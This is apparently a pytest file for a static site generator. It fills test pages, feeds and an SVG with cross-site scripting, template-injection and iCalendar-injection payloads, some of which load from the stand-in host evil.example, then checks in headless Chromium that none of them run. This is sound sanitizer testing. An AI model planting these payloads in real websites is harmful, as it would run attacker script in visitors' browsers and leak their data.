"""Hostile content: a site whose every field and body tries to run script, leave its attribute or
element, load from another host or be evaluated as a template. It must build, and nothing may
execute: every built page is loaded in headless Chromium with a hook that records any payload
that runs, and the sitemap, feeds and search index are read for unescaped payloads."""

from __future__ import annotations

import functools
import http.server
import json
import os
import re
import threading
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
import yaml
from conftest import Project, copy_project
from sitecheck import json_ld

from townsite.markup import MarkdownRenderer

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync"]  # fmt: skip
TOKEN = "载荷"  # in every hostile title, so a search finds them all


def payloads(where: str) -> list[str]:
    """Ways to run `__pwned(where)` from text that ends up in HTML, attributes, JSON or XML."""
    call = f"__pwned('{where}')"
    return [
        "{{ 7*7 }}{% if true %}jinja{% endif %}",
        f"</script><script>{call}</script>",
        f'" onmouseover="{call}" autofocus onfocus="{call}" x="',
        f"' onmouseover='{call}' x='",
        f'<img src=x onerror="{call}">',
        f'</title></textarea><svg onload="{call}">',
        f"javascript:{call}",
        f"]]><script>{call}</script><![CDATA[",
    ]


def text(where: str, limit: int) -> str:
    """One field's worth of payloads, within the field's length limit."""
    value = TOKEN + "".join(payloads(where))
    return value[:limit]


def body(where: str) -> str:
    call = f"__pwned('{where}')"
    return f"""## {TOKEN}<script>{call}</script>

{{{{ 7 * 7 }}}} {{% include "base.html" %}} ${{7 * 7}} <%= 7 * 7 %>

<script>{call}</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<img src=x onerror="{call}">
<img src=" //evil.example/leak.png"> <img src="/\\evil.example/leak.png">
<a href="javascript:{call}">a</a> <a href="JaVaScRiPt:{call}">b</a> <a href="&#106;avascript:{call}">c</a>
<a href="&#x6A;avascript&colon;{call}">d</a> <a href="java&#x09;script:{call}">e</a> <a href=" javascript:{call}">f</a>
[g](javascript:{call}) [h](<javascript:{call}>) ![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
<a href="data:text/html,<script>{call}</script>">j</a> <a href="vbscript:{call}">k</a>
<svg onload="{call}"><circle/></svg> <iframe src="javascript:{call}"></iframe> <iframe srcdoc="<script>{call}</script>"></iframe>
<style>body{{background:url("javascript:{call}")}}</style> <div style="background:url(javascript:{call})" onclick="{call}">l</div>
<object data="javascript:{call}"></object><embed src="javascript:{call}"> <base href="//evil.example/">
<form action="javascript:{call}"><input autofocus onfocus="{call}"><button formaction="javascript:{call}">m</button></form>
<meta http-equiv="refresh" content="0;url=javascript:{call}"> <link rel=import href=//evil.example/x>
<details open ontoggle="{call}">n</details> <video><source onerror="{call}"></video> <body onload="{call}">
<math><mtext><table><mglyph><style><img src=x onerror="{call}">
text {{: onclick="{call}" }} [o](/towns/){{: onclick="{call}" href="javascript:{call}" }}
<noscript><p title="</noscript><img src=x onerror={call}>"></noscript>
<!-- <img src=x onerror="{call}"> --> <![CDATA[<script>{call}</script>]]>

```html
<script>{call}</script>
```
"""


def document(front: dict, where: str) -> str:
    return "---\n" + yaml.safe_dump(front, allow_unicode=True, sort_keys=False) + "---\n\n" + body(where)


HOSTILE_FILES = {
    "towns/evil.md": {
        "name": text("town-name", 120), "slug": "evil-town", "summary": text("town-summary", 300),
        "province": "宁夏", "city": text("town-city", 60), "county": text("town-county", 60),
        "industries": [text("industry", 40), "{{ 7*7 }}"], "programs": ["百企百村互助行动"],
        "status": "建设中", "featured": True,
        "links": [{"title": text("link", 200), "url": "https://example.org/?q=%3Cscript%3E"}],
    },
    "parks/evil.md": {
        "name": text("park-name", 120), "slug": "evil-park", "summary": text("park-summary", 300),
        "province": "宁夏", "park_type": "产业园区", "industries": [text("park-industry", 40)],
        "anchors": [text("anchor", 120)], "town": "evil-town",
    },
    "events/evil.md": {
        "title": text("event-title", 120), "slug": "evil-event", "summary": text("event-summary", 300),
        "date": "2030-01-01", "end": "2030-01-02", "event_type": "峰会", "venue": text("venue", 120),
        "city": text("event-city", 60), "province": "北京", "organizers": [text("organizer", 120)],
        "towns": ["evil-town"], "parks": ["evil-park"],
    },
    # A newline in a title must not start a new iCalendar line (END:VEVENT … SUMMARY:injected).
    "events/evil-ics.md": {
        "title": f"{TOKEN}活动\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:injected\nX-PWNED:1", "slug": "evil-ics",
        "summary": "换行\nATTENDEE:mailto:evil@example.org", "date": "2016-06-26", "event_type": "论坛",
    },
    "pages/evil.md": {
        "title": text("page-title", 120), "slug": "evil-page", "summary": text("page-summary", 300), "menu": 3,
    },
}  # fmt: skip


SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
HOSTILE_SVG = f"""<?xml version="1.0"?>
<?xml-stylesheet href="https://evil.example/x.css"?>
<svg {SVG_NS} onload="__pwned('svg-onload')" width="40" height="40">
  <script>__pwned('svg-script')</script>
  <script xlink:href="https://evil.example/x.js"/>
  <foreignObject width="40" height="40"><div xmlns="http://www.w3.org/1999/xhtml">
    <img src="x" onerror="__pwned('svg-foreign')"/></div></foreignObject>
  <a href="javascript:__pwned('svg-link')"><rect width="40" height="40" fill="red"/></a>
  <rect width="10" height="10" onclick="__pwned('svg-click')" style="fill:url(https://evil.example/p)"/>
  <set attributeName="onmouseover" to="__pwned('svg-set')"/>
  <animate attributeName="href" to="javascript:__pwned('svg-animate')"/>
  <use href="https://evil.example/x.svg#a"/>
  <image href="https://evil.example/leak.png" width="1" height="1"/>
  <style>@import url(https://evil.example/y.css); rect {{ fill: blue }}</style>
  <iframe src="javascript:__pwned('svg-iframe')"/>
  <circle cx="20" cy="20" r="5" fill="#9f1239"/>
</svg>
"""


def known_text() -> set[str]:
    """Every string value written in the hostile front matter: fine to store verbatim as data
    (e.g. a search index entry), dangerous only if it is parsed as markup."""
    found: set[str] = set()

    def walk(value: object) -> None:
        if isinstance(value, str):
            found.add(value)
        elif isinstance(value, dict):
            for item in value.values():
                walk(item)
        elif isinstance(value, list):
            for item in value:
                walk(item)

    walk(HOSTILE_FILES)
    return found | {"测试" + payloads("config")[1]}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Project:
    project = copy_project("mini", tmp_path_factory.mktemp("hostile"))
    for rel, front in HOSTILE_FILES.items():
        project.write(f"content/{rel}", document(front, rel))
    site_yaml = project.read("content/site.yaml")
    description = re.search(r"^description: .*$", site_yaml, re.M).group(0)
    project.edit("content/site.yaml", description, "description: " + json.dumps("测试" + payloads("config")[1]))
    project.write("static/images/evil.svg", HOSTILE_SVG)
    project.build()
    return project


def html_pages(site: Path) -> list[str]:
    return sorted(p.relative_to(site).as_posix() for p in site.rglob("*.html"))


# --- without a browser ---------------------------------------------------------------------------


class Audit(HTMLParser):
    """What a browser would act on in a whole page, beyond the site's own scripts and JSON-LD."""

    ACTIVE = frozenset(["iframe", "frame", "object", "embed", "svg", "math", "base", "style", "applet", "template"])

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        # The site's own province map (tilemap.py) is the one inline <svg>; bodies never keep one.
        if tag in self.ACTIVE and not (tag == "svg" and values.get("class") == "tilemap"):
            self.findings.append(f"<{tag}>")
        if (
            tag == "script"
            and values.get("type") != "application/ld+json"
            and not values.get("src", "").startswith("/static/")
        ):
            self.findings.append(f"<script {values}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.findings.append("<meta refresh>")
        for name, value in values.items():
            url = re.sub(r"[\s\x00-\x1f]", "", value).lower().replace("\\", "/")
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.findings.append(f"{tag}[{name}]")
            if name in ("href", "src", "action", "data", "poster") and url.startswith(
                ("javascript:", "data:", "vbscript:", "//")
            ):
                self.findings.append(f"{tag}[{name}={value}]")


def test_the_page_audit_sees_what_it_looks_for():
    audit = Audit()
    audit.feed('<script src="/static/ok.js"></script><script type="application/ld+json">{}</script>'
               '<script>x</script><a href=" JavaScript:x" onclick="y">a</a><img src="/\\evil.example/x.png">'
               '<svg></svg><meta http-equiv="Refresh" content="0">')  # fmt: skip
    assert audit.findings == ["<script {}>", "a[href= JavaScript:x]", "a[onclick]", "img[src=/\\evil.example/x.png]",
                              "<svg>", "<meta refresh>"]  # fmt: skip


@pytest.mark.parametrize("html", [
    '<img src=" //evil.example/x.png">', '<img src="/\\evil.example/x.png">', '<a href="\t//evil.example/">a</a>',
    '<img src="\\\\evil.example/x.png">', "[a]( //evil.example/)", "![a](/\\evil.example/x.png)",
])  # fmt: skip
def test_a_url_a_browser_reads_as_another_host_is_dropped(html):
    """` //host`, `/\\host`, `\\\\host` all load from another host in a browser; a body may not."""
    rendered = MarkdownRenderer("/showcase/").render(html)
    assert "evil.example" not in rendered.html and rendered.site_links == ()


def test_hostile_content_builds_and_every_page_is_inert(hostile):
    pages = html_pages(hostile.site)
    assert {"towns/evil-town/index.html", "parks/evil-park/index.html", "events/evil-event/index.html",
            "evil-page/index.html"} <= set(pages)  # fmt: skip
    for rel in pages:
        html = (hostile.site / rel).read_text(encoding="utf-8")
        audit = Audit()
        audit.feed(html)
        assert audit.findings == [], rel
        assert "<script>__pwned" not in html and "onerror=__pwned" not in html, rel
        # Every <script> closes where it was opened: no payload ended one early.
        assert html.count("</script>") == html.count("<script"), rel
        for block in json_ld(hostile.site / rel):
            assert isinstance(block, dict)


def test_titles_read_back_exactly_and_template_syntax_stays_literal(hostile):
    town = HOSTILE_FILES["towns/evil.md"]
    (place,) = json_ld(hostile.site / "towns/evil-town/index.html")
    assert place["name"] == town["name"] and place["description"] == town["summary"]
    html = (hostile.site / "towns/evil-town/index.html").read_text(encoding="utf-8")
    lede = html.split('<p class="lede">', 1)[1].split("</p>", 1)[0]
    assert lede.startswith(f"{TOKEN}{{{{ 7*7 }}}}{{% if true %}}jinja{{% endif %}}")  # not "49", not "jinja"
    prose = html.split('<div class="prose">', 1)[1]
    assert '<p>{{ 7 * 7 }} {% include "base.html" %} ${7 * 7} &lt;%= 7 * 7 %&gt;</p>' in prose


def test_sitemap_feeds_and_search_index_hold_payloads_only_as_data(hostile):
    """Whatever *.xml, *.ics and *.json the site has (feeds and search come and go with features):
    XML is well-formed, with no script-bearing element and nothing active in the parts feed
    readers render as HTML; iCalendar lines are not forged by a newline in a title; JSON parses,
    and markup in any string is inert or a field value stored verbatim (shown as text)."""
    known = known_text()
    checked = []
    for path in sorted(hostile.site.rglob("*")):
        rel = path.relative_to(hostile.site).as_posix()
        if path.suffix == ".xml":
            for element in ET.fromstring(path.read_bytes()).iter():
                name = element.tag.rsplit("}", 1)[-1]
                assert name not in ("script", "iframe", "svg", "img", "style"), rel
                if element.get("type") in ("html", "xhtml") or name in ("description", "encoded"):
                    assert_inert(element.text or "", rel)  # Atom type="html", RSS description
        elif path.suffix == ".ics":
            lines = re.sub(r"\r\n[ \t]", "", path.read_bytes().decode("utf-8")).split("\r\n")
            names = [line.split(":", 1)[0].split(";", 1)[0] for line in lines if line]
            assert "X-PWNED" not in names and "ATTENDEE" not in names, rel
            assert not any(line.startswith("SUMMARY:injected") for line in lines), rel
            assert names.count("BEGIN") == names.count("END") > 0, rel
        elif path.suffix == ".json":
            for value in strings(json.loads(path.read_bytes())):
                if value not in known:
                    assert_inert(value, rel)
        else:
            continue
        checked.append(rel)
    assert "sitemap.xml" in checked


def strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def assert_inert(value: str, where: str) -> None:
    audit = Audit()
    audit.feed(value)
    assert audit.findings == [], f"{where}: active markup {audit.findings} in {value[:200]!r}"


# --- in Chromium ---------------------------------------------------------------------------------


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def served(hostile) -> Iterator[str]:
    handler = functools.partial(QuietHandler, directory=str(hostile.site))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()
        httpd.server_close()
        thread.join(timeout=5)


# Runs before any page script: every dialog or eval-like sink reports to __pwned too.
HOOKS = """
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => window.__pwned(name + ":" + args.join(","));
}
"""
DOM_AUDIT = """
() => {
  const bad = [];
  for (const el of document.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const url = attr.value.replace(/[\\s\\x00-\\x1f]/g, "").toLowerCase();
      if (name.startsWith("on") || name === "srcdoc") bad.push(`${tag}[${name}]`);
      if (["href", "src", "action", "formaction", "data", "poster"].includes(name)
          && /^(javascript|vbscript|data):/.test(url)) bad.push(`${tag}[${name}=${attr.value}]`);
    }
    if (["iframe", "frame", "object", "embed", "svg", "math", "base", "style", "applet"].includes(tag)
        && !(tag === "svg" && el.getAttribute("class") === "tilemap")) bad.push(tag);  // the site's own map
    if (tag === "script" && el.type !== "application/ld+json"
        && !(el.src && new URL(el.src).origin === location.origin && new URL(el.src).pathname.startsWith("/static/")))
      bad.push("script " + (el.src || el.textContent.slice(0, 80)));
  }
  return bad;
}
"""


@dataclass
class Visit:
    """What loading pages in Chromium recorded."""

    executed: list[str] = field(default_factory=list)  # __pwned calls, alerts, dialogs
    findings: dict[str, list[str]] = field(default_factory=dict)  # active markup left in the DOM
    elsewhere: list[str] = field(default_factory=list)  # requests to any other host
    loaded: list[str] = field(default_factory=list)


def in_chromium(work: Callable[[Browser, Visit], None]) -> Visit:
    """Runs `work` with a fresh headless Chromium in a thread of its own: Playwright's sync API
    will not start inside another running Playwright (tests/e2e keeps one open all session)."""
    if not CHROMIUM.is_file():
        message = "Debian's Chromium is missing: apt-get install chromium (scripts/test.sh does it)"
        if os.environ.get("TOWNSITE_E2E_STRICT") == "1":
            pytest.fail(message, pytrace=False)
        pytest.skip(message)
    from playwright.sync_api import sync_playwright

    visit = Visit()

    def run() -> None:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            try:
                work(browser, visit)
            finally:
                browser.close()

    with ThreadPoolExecutor(max_workers=1) as pool:
        pool.submit(run).result()
    return visit


def recording_page(browser: Browser, visit: Visit, origin: str | None = None) -> Page:
    """A page whose every executed payload, dialog and off-site request lands in `visit`."""
    context = browser.new_context()
    context.expose_function("__pwned", lambda *args: visit.executed.append(" ".join(map(str, args))))
    context.add_init_script(HOOKS)

    def route(route: Route) -> None:  # a leaked image or script elsewhere is recorded and refused
        if origin and urlsplit(route.request.url).netloc != urlsplit(origin).netloc:
            visit.elsewhere.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", lambda dialog: (visit.executed.append(f"dialog: {dialog.message}"), dialog.dismiss()))
    return page


@pytest.mark.browser
def test_no_payload_runs_in_chromium_on_any_page(hostile, served):
    pages = html_pages(hostile.site)

    def work(browser: Browser, visit: Visit) -> None:
        page = recording_page(browser, visit, served)
        for rel in pages:
            response = page.goto(f"{served}/{rel.removesuffix('index.html')}", wait_until="load")
            if response is not None and response.ok:
                visit.loaded.append(rel)
            page.mouse.move(200, 200)  # hover handlers, had any survived
            page.keyboard.press("Tab")  # focus handlers
            if found := page.evaluate(DOM_AUDIT):
                visit.findings[rel] = found
        # Search for the payload-bearing entries, so the results (rendered by script) show them.
        for query in (TOKEN, "pwned", "script"):
            page.goto(f"{served}/", wait_until="load")
            box = page.locator("input[type=search]").first
            if box.count():  # the search feature is there
                box.fill(query)
                box.press("Enter")
                page.wait_for_load_state("networkidle")
                if query == TOKEN:  # the hostile entries are listed, so their titles were rendered
                    page.wait_for_selector('main a[href*="evil-town"]', timeout=10_000)
                page.wait_for_timeout(300)
                if found := page.evaluate(DOM_AUDIT):
                    visit.findings[f"search {query}"] = found
        page.wait_for_timeout(200)  # let any deferred payload fire

    visit = in_chromium(work)
    assert visit.loaded == pages and len(pages) > 30
    assert visit.executed == []
    assert visit.findings == {}
    assert visit.elsewhere == []


@pytest.mark.browser
def test_an_svg_opened_by_its_address_runs_nothing(hostile, served):
    """An SVG from static/ is a document of the site's origin when opened directly: after the
    sanitizer, nothing in it runs, loads from elsewhere or reacts to the mouse."""
    assert "__pwned" in HOSTILE_SVG

    def work(browser: Browser, visit: Visit) -> None:
        page = recording_page(browser, visit, served)
        response = page.goto(f"{served}/static/images/evil.svg", wait_until="load")
        if response is not None and response.ok:
            visit.loaded.append("evil.svg")
        page.mouse.move(5, 5)
        page.mouse.click(20, 20)
        page.wait_for_timeout(300)
        if found := page.evaluate(DOM_AUDIT.replace('"svg", ', "")):
            visit.findings["evil.svg"] = found

    visit = in_chromium(work)
    assert visit.loaded == ["evil.svg"]
    assert visit.executed == [] and visit.findings == {} and visit.elsewhere == []


@pytest.mark.browser
def test_an_unsanitized_svg_would_have_run(tmp_path):
    """The same file before the sanitizer does run in this harness: the test above can fail."""
    (tmp_path / "evil.svg").write_text(HOSTILE_SVG, encoding="utf-8")

    def work(browser: Browser, visit: Visit) -> None:
        page = recording_page(browser, visit)
        page.goto((tmp_path / "evil.svg").as_uri(), wait_until="load")
        page.wait_for_timeout(300)

    visit = in_chromium(work)
    assert "svg-script" in visit.executed and "svg-onload" in visit.executed


@pytest.mark.browser
def test_the_hook_would_see_a_payload_that_ran(tmp_path):
    """The recorder itself works: a page that does run a payload is caught by every channel."""
    (tmp_path / "index.html").write_text(
        '<img src=x onerror="__pwned(\'img\')"><script>alert("dialog")</script>'
        '<a href="javascript:x" onclick="x">a</a>',
        encoding="utf-8",
    )

    def work(browser: Browser, visit: Visit) -> None:
        page = recording_page(browser, visit)
        page.goto((tmp_path / "index.html").as_uri(), wait_until="load")
        page.wait_for_timeout(200)
        visit.findings["index"] = page.evaluate(DOM_AUDIT)

    visit = in_chromium(work)
    assert sorted(visit.executed) == ["alert:dialog", "img"]
    found = visit.findings["index"]
    assert "a[onclick]" in found and "a[href=javascript:x]" in found and any(f.startswith("script") for f in found)
